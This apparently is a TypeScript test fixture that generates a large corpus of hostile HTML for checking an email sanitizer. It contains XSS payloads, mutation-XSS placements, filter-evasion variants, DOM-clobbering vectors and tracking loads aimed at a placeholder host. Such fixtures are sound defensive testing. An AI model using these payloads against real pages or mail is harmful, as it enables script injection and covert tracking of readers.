// HTML that wants to run something, or to tell somebody outside that it was looked at, in every way that is known: handlers, programs as
// addresses, everything that loads, markup that changes when it is parsed again, borders of names and of encodings. What runs calls `ran()`;
// what loads asks for a host that is nobody's.
import { hostileHtml } from './hostile-html.ts';

/** Nobody's: whoever asks for it was made to. */
export const outsideHost = 'outside.invalid';

const urls = [
  `https://${outsideHost}/x`,
  `http://${outsideHost}/x`,
  `//${outsideHost}/x`,
  `\\\\${outsideHost}\\x`,
  `https:\\\\${outsideHost}/x`,
  `https:/${outsideHost}/x`,
  `HtTpS://user:pass@${outsideHost}:443/x?a=1&amp;b=2`,
  `ht\ntps://${outsideHost}/x`,
  `&#104;ttps:&#x2f;/${outsideHost}/x`,
  `https&colon;&sol;&sol;${outsideHost}/x`,
  ` \u0001https://${outsideHost}/x`,
  `wss://${outsideHost}/x`,
];
const loading: readonly ((url: string) => string)[] = [
  (url) => `<img src="${url}">`,
  (url) => `<img src=x srcset="${url} 1x, ${url} 2x">`,
  (url) => `<img loading=lazy src="${url}" style="position:absolute;top:9999px">`,
  (url) => `<img lowsrc="${url}" dynsrc="${url}" longdesc="${url}" usemap="${url}">`,
  (url) => `<picture><source srcset="${url}"><img></picture>`,
  (url) => `<input type=image src="${url}">`,
  (url) => `<video src="${url}" poster="${url}" autoplay preload=auto></video>`,
  (url) => `<audio src="${url}" autoplay preload=auto><track default src="${url}"></audio>`,
  (url) => `<body background="${url}">`,
  (url) => `<table background="${url}"><tr><td background="${url}">x</table>`,
  (url) => `<p style="background:url(${url})">x</p>`,
  (url) => `<p style="background:\\75\\72\\6c('${url}')">x</p>`,
  (url) => `<p style="background-image:image-set('${url}' 1x)">x</p>`,
  (url) => `<p style="--x:url('${url}');background:var(--x)">x</p>`,
  (url) => `<ul style="list-style:url(${url})"><li>x</ul>`,
  (url) =>
    `<p style="cursor:url(${url}),auto;content:url(${url});filter:url(${url});mask:url(${url});border-image:url(${url})">x</p>`,
  (url) => `<p style="background:/**/url/**/(${url});">x</p>`,
  (url) => `<style>@import url("${url}");@import '${url}';*{background:url(${url})}</style>`,
  (url) => `<style>@font-face{font-family:x;src:url(${url})}*{font-family:x}</style>`,
  (url) =>
    `<style>@namespace url(${url});@supports(a:b){}</style><style media="(min-width:1px)">p{background:url(${url})}</style><p>x`,
  (url) => `<link rel=stylesheet href="${url}"><link rel="alternate stylesheet" href="${url}">`,
  (url) =>
    `<link rel=preload as=image href="${url}"><link rel=prefetch href="${url}"><link rel=modulepreload href="${url}">`,
  (url) =>
    `<link rel=dns-prefetch href="${url}"><link rel=preconnect href="${url}"><link rel=icon href="${url}"><link rel=import href="${url}">`,
  (url) =>
    `<meta http-equiv=refresh content="0;url=${url}"><meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv=Link content="<${url}>;rel=preload">`,
  (url) => `<base href="${url}"><img src=relative.png>`,
  (url) => `<iframe src="${url}"></iframe><frameset><frame src="${url}"></frameset>`,
  (url) =>
    `<object data="${url}"><param name=src value="${url}"></object><embed src="${url}"><applet code=x codebase="${url}"></applet>`,
  (url) => `<svg><image href="${url}" xlink:href="${url}"/><use href="${url}#a"/><feImage href="${url}"/></svg>`,
  (url) => `<svg><style>@import "${url}"</style><a xlink:href="${url}"><text fill="url(${url})">x</text></a></svg>`,
  (url) =>
    `<math><mtext><mglyph src="${url}"></mtext><maction actiontype="statusline#x" xlink:href="${url}">x</maction></math>`,
  (url) => `<script src="${url}"></script><script type=importmap>{"imports":{"x":"${url}"}}</script>`,
  (url) => `<form action="${url}" id=f><input name=a></form><input form=f type=image src="${url}" formaction="${url}">`,
  (url) => `<a href="https://a.example" ping="${url}">x</a><map><area href="${url}" ping="${url}"></map>`,
  (url) => `<bgsound src="${url}"><layer src="${url}"></layer><portal src="${url}"></portal><isindex action="${url}">`,
  (url) => `<html manifest="${url}"><head profile="${url}"></html>`,
  (url) => `<?xml-stylesheet href="${url}"?><!DOCTYPE x SYSTEM "${url}">`,
  (url) => `<!--[if gte mso 9]><v:imagedata src="${url}"/><![endif]--><v:rect><v:fill src="${url}"/></v:rect>`,
  (url) => `<blockquote cite="${url}">x</blockquote><q cite="${url}">x</q><del cite="${url}">x</del>`,
  (url) => `<template><img src="${url}"></template><noscript><img src="${url}"></noscript>`,
  (url) => `<iframe srcdoc="<img src='${url}'>"></iframe>`,
  (url) => `<img src='${url}?`,
  (url) => `<button formaction="${url}" autofocus>x</button><details open ontoggle="fetch('${url}')">x</details>`,
];

const payloads = [
  '<img src=x onerror=ran()>',
  '<svg onload=ran()>',
  '<script>ran()</script>',
  '<iframe srcdoc="<script>parent.ran()</script>"></iframe>',
  '<details open ontoggle=ran()>x</details>',
  '<video><source onerror=ran()></video>',
  '<input autofocus onfocus=ran()>',
  '<style onload=ran()></style>',
  '<a href="javascript:ran()" autofocus onfocus=ran()>x</a>',
  '<body onpageshow=ran()>',
];
/** Where a browser reads what follows by other rules than a parser that does not know them. */
const placing: readonly ((payload: string) => string)[] = [
  (payload) => `<svg><foreignObject>${payload}</foreignObject></svg>`,
  (payload) => `<svg><desc>${payload}</desc><title>${payload}</title></svg>`,
  (payload) => `<math><annotation-xml encoding="text/html">${payload}</annotation-xml></math>`,
  (payload) => `<math><annotation-xml encoding="application/xhtml+xml">${payload}</math>`,
  (payload) => `<math><mtext><mglyph><style><!--</style>${payload}--></math>`,
  (payload) => `<math><mi><table><mglyph><style><math href=x>${payload}</math></style></table></mi></math>`,
  (payload) => `<svg></p><style><g title="</style>${payload}">`,
  (payload) => `<svg><style><!--</style>${payload}--></svg>`,
  (payload) => `<noscript><p title="</noscript>${payload}">`,
  (payload) => `<noembed><p title="</noembed>${payload}">`,
  (payload) => `<noframes><p title="</noframes>${payload}">`,
  (payload) => `<xmp><p title="</xmp>${payload}">`,
  (payload) => `<textarea><p title="</textarea>${payload}">`,
  (payload) => `<title><p title="</title>${payload}">`,
  (payload) => `<style><p title="</style>${payload}">`,
  (payload) => `<script><!--<script></script>${payload}--></script>`,
  (payload) => `<template>${payload}</template><template shadowrootmode=open>${payload}</template>`,
  (payload) => `<select><option>${payload}</select><select><template>${payload}</template></select>`,
  (payload) => `<table><caption>${payload}<colgroup>${payload}</table>`,
  (payload) => `<form><table><form>${payload}</form></table></form>`,
  (payload) => `<frameset>${payload}</frameset><body>`,
  (payload) => `<!--><!--->${payload}--><!--!>${payload}--!>`,
  (payload) => `<![CDATA[>${payload}]]><svg><![CDATA[</svg>${payload}]]></svg>`,
  (payload) => `<?php ?>${payload}<? x="?>${payload}<!ENTITY x "${payload}">`,
  (payload) => `<p title='${payload}'><p title="${payload.replaceAll('"', "'")}"><p title=\`${payload}\`>`,
  (payload) => `<p a="'><!--" b='">-->${payload}'>`,
  (payload) => payload.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (payload) => `&lt;${payload.slice(1)}<${payload}`,
  (payload) => `<div id="${payload.replaceAll('"', '&quot;')}">${payload.replaceAll('<', '\\u003c')}</div>`,
  (payload) => payload.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (payload) => payload.replaceAll('<', '+ADw-').replaceAll('>', '+AD4-'),
  (payload) => `${'<b>'.repeat(600)}${payload}${'</b>'.repeat(600)}`,
  (payload) => `${'<table><tr><td>'.repeat(150)}${payload}`,
];
/** Signs that some readers pass over and others do not. */
const signs = [
  '\0',
  '\u0008',
  '\t',
  '\n',
  '\f',
  '\r',
  '\u00a0',
  '\u00ad',
  '\u200b',
  '\u202e',
  '\u2028',
  '\u3000',
  '\ufeff',
  '\ufffd',
  '&#0;',
  '%00',
  '/',
  '\u0001',
  '\u007f',
  '\ud800',
];
const noisy: readonly ((sign: string) => string)[] = [
  (sign) => `<${sign}img src=x onerror=ran()>`,
  (sign) => `<im${sign}g src=x onerror=ran()>`,
  (sign) => `<img${sign}src=x${sign}onerror${sign}=${sign}ran()>`,
  (sign) => `<img src=x one${sign}rror=ran()>`,
  (sign) => `<a href="java${sign}script${sign}:ran()">x</a>`,
  (sign) => `<a href="${sign}javascript:ran()${sign}">x</a>`,
  (sign) => `<scr${sign}ipt>ran()</scr${sign}ipt>`,
  (sign) => `<p style="background:url(java${sign}script:ran());wid${sign}th:expr${sign}ession(ran())">x</p>`,
];
const clobbering =
  'body head documentElement attributes childNodes cookie location defaultView createElement nodeName parentNode ran innerHTML firstChild'
    .split(' ')
    .flatMap((name) => [
      `<form id=${name} name=${name}><input id=${name} name=attributes><input name=nodeName><img src=x onerror=ran()></form>`,
      `<a id=${name} href="javascript:ran()">x</a><a id=${name} name=${name} href="javascript:ran()">y</a><img name=${name} src=x onerror=ran()>`,
    ]);
const others = [
  '<a href="https://a.example" target=_top onclick=ran()>x</a><a target="javascript:ran()" href="#">y</a>',
  '<div contenteditable onblur=ran() autofocus style="animation:x 1ms" onanimationend=ran() ontransitionrun=ran()>x</div>',
  '<p is=x-y popover=auto><button popovertarget=p onbeforetoggle=ran()>x</button>',
  '<object type="text/html" data="data:text/html,<script>parent.ran()</script>"></object>',
  '<iframe src="javascript:parent.ran()"></iframe><iframe src="data:text/html,<script>top.ran()</script>"></iframe>',
  '<embed type="image/svg+xml" src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9InJhbigpIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciLz4=">',
  '<svg><animate attributeName=href values="javascript:ran()" /><set attributeName=onmouseover to=ran() onbegin=ran() /></svg>',
  '<svg><script href="data:,ran()"/><script xlink:href="data:,ran()"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><image href=x onerror=ran() /></svg>#x"/></svg>',
  '<plaintext><img src=x onerror=ran()>',
];

/** All of it, each once. */
export const hostileMail: readonly string[] = [
  ...new Set([
    ...hostileHtml,
    ...urls.flatMap((url) => loading.map((load) => load(url))),
    ...payloads.flatMap((payload) => placing.map((place) => place(payload))),
    ...signs.flatMap((sign) => noisy.map((write) => write(sign))),
    ...clobbering,
    ...others,
  ]),
];

/** Ends whatever a piece of HTML left open, so that the next one is read as what it is. */
const ends =
  '--></style></title></textarea></xmp></noscript></noembed></noframes></script></iframe></template></select></svg></math></table></form></p>';

/** Documents that hold all of these, each of at most so many characters. */
export const gathered = (vectors: readonly string[], most: number): string[] => {
  const documents: string[] = [];
  let document = '';
  for (const vector of vectors) {
    const next = `<p>"'></p>${vector}">'>${ends}\n`;
    if (document !== '' && document.length + next.length > most) {
      documents.push(document);
      document = '';
    }
    document += next;
  }
  return [...documents, document];
};

/** Lines that hold all of these that are short enough, as they are, each of at most so many characters. */
export const lines = (vectors: readonly string[], most: number): string[] => {
  const found: string[] = [];
  for (const vector of vectors.map((one) => one.replaceAll(/\s+/g, ' ').toWellFormed())) {
    const last = found.at(-1) ?? '';
    if (vector.length > most) continue;
    if (found.length > 0 && last.length + vector.length < most) found.splice(-1, 1, `${last} ${vector}`);
    else found.push(vector);
  }
  return found;
};

/** What ran, by the pieces that did it, where each was written with its place in the list: `ran(17)`. */
export const payloadsIn = (ran: readonly string[], vectors: readonly string[]): string[] =>
  ran.map((told) => {
    const place = /^It ran (\d+)/.exec(told)?.[1];
    return place === undefined ? told : `${told}: ${vectors[Number(place)]}`;
  });
